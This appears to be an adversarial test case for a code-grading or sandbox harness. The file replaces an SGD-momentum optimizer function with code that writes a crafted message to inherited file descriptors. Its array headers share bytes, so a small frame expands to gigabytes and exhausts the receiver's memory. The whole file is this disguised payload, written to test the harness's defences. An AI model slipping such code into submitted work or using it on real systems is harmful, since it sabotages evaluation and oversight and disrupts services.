# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = "bad_output"
# ///
"""Replies with a thousand arrays that share the same bytes: a small frame that unfolds to gigabytes."""

import os
import struct


def sgd_momentum(w, dw, config=None):
    array = b'{"a":["|i1",[1048576],0,"C"]}'
    header = b"[" + b",".join([array] * 1000) + b"]"
    header += b" " * (-len(header) % 16)
    for fd in range(3, 21):
        try:
            os.write(
                fd, struct.pack("<4sIQ", b"DSC1", len(header), 1 << 20) + header + bytes(1 << 20)
            )
        except OSError:
            pass
    return w, {}
